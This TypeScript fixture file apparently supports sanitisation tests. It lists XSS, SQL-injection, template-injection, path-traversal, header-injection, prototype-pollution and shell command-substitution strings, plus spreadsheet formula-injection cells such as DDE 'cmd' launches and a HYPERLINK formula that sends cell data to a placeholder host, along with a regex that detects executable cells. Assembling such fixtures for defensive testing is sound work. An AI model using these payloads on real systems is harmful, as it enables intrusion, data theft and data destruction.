/** What people and programs put into texts to do harm elsewhere. */
export const injections = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</title><script>alert(1)</script>',
  '<!--<script>-->',
  ']]><x>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "' OR 1=1 --",
  "'); DROP TABLE products; --",
  '{{7*7}}',
  // eslint-disable-next-line no-template-curly-in-string -- of somebody else's templates
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'a\r\nSet-Cookie: x=1',
  'a%0d%0aX: y',
  '__proto__',
  '{"__proto__":{"admin":true}}',
  'constructor',
  '\u202egnp.exe',
  '&lt;b&gt;&#106;avascript:',
  '$(id); `id` | id',
] as const

/** Texts that no table can carry. */
export const uncarried = ['a\u0000b', '\u0000', 'half \ud83d', '\udc00 pair'] as const

/** Cells that a spreadsheet runs, or ran once. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"y")',
  '=IMPORTXML("http://x.example","//a")',
  '=WEBSERVICE("http://x.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+cmd|x!A0',
  '-cmd|x!A0',
  '@cmd|x!A0',
  '==1',
  '=',
  '"=1+1',
  '"=1+1"',
  '""=1',
  "'=1+1",
  "''=1+1",
  '\'"=1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '﹦1+1',
  '=1\n=2',
  '=1;=2',
  'a\t=1',
  '\u200b=1+1',
  "=1+1' ",
] as const

/** Whether a cell would be reckoned by a spreadsheet, or be taken for one after what it leaves off. */
export const runsIn = (cell: string): boolean =>
  /^["\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell) || /^[\t\r\n]/.test(cell)
